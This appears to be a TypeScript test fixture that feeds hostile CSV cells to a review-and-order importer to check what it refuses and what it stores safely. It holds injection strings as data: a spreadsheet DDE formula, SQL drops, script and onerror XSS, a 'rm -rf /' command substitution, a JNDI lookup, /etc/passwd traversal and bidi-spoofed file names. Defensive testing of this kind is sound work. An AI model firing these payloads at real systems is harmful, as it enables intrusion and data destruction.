import type { Reason } from "@/lib/domain/import/problem";
import { type Column, csvOf, goodRows, rowWith } from "@/tests/hostile/good-rows";
import { file, type HostileFile, kept, taken } from "@/tests/hostile/hostile-file";

/** Three good rows and one with a hostile cell. `reason`: why it is refused; null where it is kept as it is. */
function inCell(
  column: Column,
  name: string,
  value: string,
  reason: Reason | null,
  stored = value,
): HostileFile {
  const texts = column === "review_text" ? [stored] : [];
  const content = () => csvOf([...goodRows(3), rowWith(4, { [column]: value })]);
  return file(`${name} as ${column}`, content, reason ? taken(3, { [reason]: 1 }) : taken(4, {}, { texts }));
}

const RATINGS: readonly (readonly [string, Reason | null])[] = [
  ["1e400", "notANumber"],
  ["-1e400", "outOfRange"],
  ["1e-400", "notANumber"],
  ["Infinity", "notANumber"],
  ["-Infinity", "notANumber"],
  ["-0", "outOfRange"],
  ["-3", "outOfRange"],
  ["0x10", "notANumber"],
  ["1_000", "notANumber"],
  ["99999999999999999999", "outOfRange"],
  ["4.5.6", "notANumber"],
  ["５", null],
  ["٤", "notANumber"],
  ["4; drop table document", "notANumber"],
  ["=1+1", "notANumber"],
  ["{{4}}", "notANumber"],
];

const TIMES: readonly (readonly [string, Reason | null])[] = [
  ["0000-00-00", "noSuchDate"],
  ["0000-01-01", "noSuchDate"],
  ["0001-01-01", "noSuchDate"],
  ["9999-12-31", "noSuchDate"],
  ["10000-01-01", "notADate"],
  ["-2024-01-01", "notADate"],
  ["2024-02-30", "noSuchDate"],
  ["2023-02-29", "noSuchDate"],
  ["1900-02-29", "noSuchDate"],
  ["2024-04-31", "noSuchDate"],
  ["2024-13-01", "noSuchDate"],
  ["2024-00-10", "noSuchDate"],
  ["2024-03-05 24:01", "noSuchDate"],
  ["2024-03-05 10:60", "noSuchDate"],
  ["2024-03-05T10:00:00+99:99", "noSuchDate"],
  ["2024-03-05T10:00:00-14:60", "noSuchDate"],
  ["1e400", "notADate"],
  ["NaN-NaN-NaN", "notADate"],
  ["-1", "notADate"],
  ["99999999999999999999", "notADate"],
  ["Infinity", "notADate"],
  ["yesterday", "notADate"],
];

const TEXTS: Readonly<Record<string, string>> = {
  "a formula": "=cmd|' /C calc'!A0",
  "a formula with a plus": "+1+1",
  "a formula with a minus": "-1+1",
  "a formula with an at": "@SUM(1+1)",
  "a formula in full width": "＝1+1",
  SQL: "'; drop table document; --",
  "SQL in quotes": `"; delete from "user"; --`,
  "a place of a query": "$1 $2 ? :name",
  "a template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
  "a message's pattern": "{count, plural, one {x} other {y}} '{",
  "a format": "%s%s%n%x %d %%",
  "a script": "<script>alert(document.cookie)</script>",
  "an image": `"><img src=x onerror=alert(1)>`,
  "a link of a script": "javascript:alert(1)",
  "a path": "../../../../etc/passwd",
  "a command": "$(rm -rf /) `id` | cat",
  "an address of the log": "${jndi:ldap://host/a}",
  "a null": "nullptr undefined NaN",
  "COPY's end": "\\.",
  "COPY's null": "\\N and more",
  backslashes: "\\\\ \\n \\x41 \\0",
  "turned writing": "good \u202egnp.exe\u202c",
  isolates: "\u2066\u2067\u2068\u2069 fine",
  "no width": "a\u200bb\u200cc\u200dd\u2060e",
  "marks upon marks": `z${"\u0300\u0301\u0302".repeat(500)}`,
  families: "👨‍👩‍👧‍👦👩🏽‍🚀🏴󠁧󠁢󠁥󠁮󠁧󠁿",
  "own characters": "\ue000\uf8ff\u{10ffff}",
  controls: "a\u0001b\u0008c\u001b[31md\u007f",
  Arabic: "ﷺ مرحبا بالعالم",
  "a tab and returns": "a\tb",
  "an apostrophe before": "'=1+1",
  "100 letters without a space": "x".repeat(100),
  "99,999 letters": "y ".repeat(49_999).trim(),
  "an escape of JSON": '\\u0000 \\ud800 "}]',
};

const IDS: Readonly<Record<string, string>> = {
  __proto__: "__proto__",
  constructor: "constructor",
  prototype: "prototype",
  toString: "toString",
  hasOwnProperty: "hasOwnProperty",
  SQL: "' or 1=1 --",
  "a path": "../../x",
  "an address": "a/b?c=d#e&f=%00",
  tags: "<b>x</b>",
  "a formula": "=1+1",
  smileys: "😀",
  "turned writing": "\u202eabc",
  marks: "e\u0301",
  "a long number": "9".repeat(200),
  "a float": "12345.0",
  "an exponent": "1e5",
  "a star": "*",
  "a comma": "a,b",
};

const refusedCells: HostileFile[] = [
  inCell("review_text", "no characters", "a\ufffeb\uffffc", "badCharacters"),
  inCell("review_text", "NUL", "a\0b", "nul"),
  inCell("review_id", "NUL", "a\0b", "nul"),
  inCell("customer_id", "NUL", "a\0b", "nul"),
  inCell("rating", "NUL", "4\0", "nul"),
  inCell("review_time", "NUL", "2024-03-05\0", "nul"),
  inCell("review_text", "100,001 letters", "z".repeat(100_001), "tooLong"),
  inCell("review_id", "201 letters", "z".repeat(201), "tooLong"),
  inCell("product_id", "201 letters", "z".repeat(201), "tooLong"),
];

const ORDER = ["order_id", "customer_id", "product_id", "quantity", "unit_price", "order_time"];
const ORDERS: readonly (readonly [string, number, string, Reason | null])[] = [
  ["a quantity", 3, "1e400", "outOfRange"],
  ["a quantity", 3, "Infinity", "notANumber"],
  ["a quantity", 3, "-0", "zero"],
  ["a quantity", 3, "99999999999999999999", "outOfRange"],
  ["a quantity", 3, "1e308", "outOfRange"],
  ["a price", 4, "1e400", "outOfRange"],
  ["a price", 4, "-0", null],
  ["a price", 4, "1e308", "outOfRange"],
  ["a price", 4, "=1+1", "notANumber"],
  ["a time", 5, "9999-12-31", "noSuchDate"],
  ["a time", 5, "2024-02-30", "noSuchDate"],
  ["a product", 2, "__proto__", null],
  ["a customer", 1, "constructor", null],
  ["an order", 0, "a\0b", "nul"],
];
const order = (number: number) => [`o${number}`, `u${number}`, "p1", "2", "9.90", "2024-03-05 10:00"];
const orders = ORDERS.map(([what, at, value, reason]) => {
  const rows = [1, 2, 3].map(order);
  const bad = order(4).map((cell, index) => (index === at ? value : cell));
  const name = `${JSON.stringify(value)} as ${what}`;
  return file(name, csvOf([...rows, bad], ORDER), reason ? kept(3, { [reason]: 1 }) : kept(4), {
    kind: "orders",
    fileName: "orders.csv",
  });
});

export const VALUES: readonly HostileFile[] = [
  ...RATINGS.map(([value, reason]) => inCell("rating", value, value, reason)),
  ...TIMES.map(([value, reason]) => inCell("review_time", value, value, reason)),
  ...Object.entries(TEXTS).map(([name, value]) => inCell("review_text", name, value, null)),
  ...Object.entries(IDS).flatMap(([name, value]) => [
    inCell("review_id", name, value, null),
    inCell("customer_id", name, value, null),
  ]),
  ...refusedCells,
  ...orders,
];
